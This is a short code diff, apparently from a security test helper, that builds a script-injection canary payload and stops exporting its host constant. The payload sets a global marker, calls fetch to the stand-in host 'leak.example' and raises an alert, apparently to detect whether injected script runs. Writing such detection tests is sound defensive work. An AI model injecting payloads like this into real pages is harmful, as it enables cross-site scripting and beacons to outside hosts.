@@ -1,6 +1,6 @@
 /** What a payload does if it ever runs: it sets a mark that is looked for, and calls home. */
 export const CANARY = 'rolecallCanary'
-export const HOME = 'leak.example'
+const HOME = 'leak.example'
 const CODE = `top.${CANARY}=self.${CANARY}=1;fetch(\`https://${HOME}/ran\`);alert(1)`
 const SHORT = `self.${CANARY}=1`
 
